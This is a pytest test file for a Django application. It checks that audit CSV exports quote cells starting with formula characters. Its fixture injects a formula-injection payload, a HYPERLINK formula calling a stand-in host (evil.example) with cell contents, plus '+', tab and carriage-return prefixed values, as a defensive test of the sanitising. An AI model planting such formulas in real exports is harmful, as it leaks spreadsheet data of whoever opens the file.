"""The audit exports (the console's CSV and the admin's) never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
import redis
from django.contrib.auth.models import User
from django.test import Client

from tests.support.console import HTMX, member_of, pending_entries
from tests.support.engine import STREAM
from workers.models import AuditRecord, Door
from workers.operations.spreadsheet import FORMULA_STARTS
from workers.store.audit import Action, Actor, Entry, Result

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "x")'


def hostile_records(r: redis.Redis) -> Client:
    """Real actions whose audit cells start with each formula character."""
    ids = pending_entries(r)
    client = Client()
    client.force_login(member_of("@ops", "operators"))
    response = client.post(
        f"/streams/{STREAM}/groups/agents/act/deadletter/",
        {"ids": ids[:1], "reason": FORMULA},
        headers=HTMX,
    )
    assert response.status_code == 200, response.content
    client.post(f"/streams/{STREAM}/groups/-agents/act/pause/", {}, headers=HTMX)
    for n, start in enumerate(("+", "\t", "\r")):
        Entry(
            Actor(f"cli:{start}x", Door.CLI),
            Action.RETRY,
            stream=STREAM,
            reason=f"{start}SUM(1,{n})",
            detail=f"{start}cmd",
        ).write(Result.OK)
    return client


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_audit_csv_quotes_formula_cells(r: redis.Redis) -> None:
    client = hostile_records(r)
    response = client.get("/audit/", {"format": "csv"})
    rows = cells(b"".join(response.streaming_content))
    assert len(rows) == 1 + AuditRecord.objects.count()
    every = [cell for row in rows for cell in row]
    assert not [c for c in every if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULA in every and "'@ops" in every and "'-agents" in every
    assert "'\tSUM(1,1)" in every and "'\rSUM(1,2)" in every and "'+cmd" in every


def test_audit_csv_keeps_numbers_and_plain_text(r: redis.Redis) -> None:
    client = hostile_records(r)
    rows = cells(b"".join(client.get("/audit/", {"format": "csv"}).streaming_content))
    header = rows[0]
    dead = next(row for row in rows if row[header.index("action")] == "dead-letter")
    assert dead[header.index("count")] == "1" and dead[header.index("stream")] == STREAM


def test_admin_csv_export_quotes_formula_cells(r: redis.Redis, db: Any) -> None:
    hostile_records(r)
    admin = Client()
    admin.force_login(User.objects.create_superuser("root", "", "pw-root"))
    response = admin.post(
        "/admin/workers/auditrecord/",
        {
            "action": "export_csv",
            "_selected_action": list(AuditRecord.objects.values_list("pk", flat=True)),
        },
    )
    assert response["Content-Type"] == "text/csv"
    every = [cell for row in cells(response.content) for cell in row]
    assert not [c for c in every if c.startswith(FORMULA_STARTS)]
    assert "'" + FORMULA in every
